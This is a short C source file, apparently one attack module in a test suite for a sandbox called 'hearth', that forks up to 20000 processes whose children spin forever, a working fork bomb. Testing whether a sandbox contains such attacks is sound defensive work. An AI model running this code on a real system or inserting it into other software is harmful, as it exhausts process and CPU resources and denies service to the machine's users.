/* fork_bomb.c: creates processes, and tries again where that is refused. */
#include "attack.h"

const char *
attack(hearth_call *call)
{
    int made = 0;

    (void)call;
    for (int i = 0; i < 20000; i++) {
        pid_t pid = fork();

        if (pid == 0)
            for (;;)
                (void)sched_yield();
        made += pid > 0;
    }
    return made > 0 ? "it has children" : NULL;
}
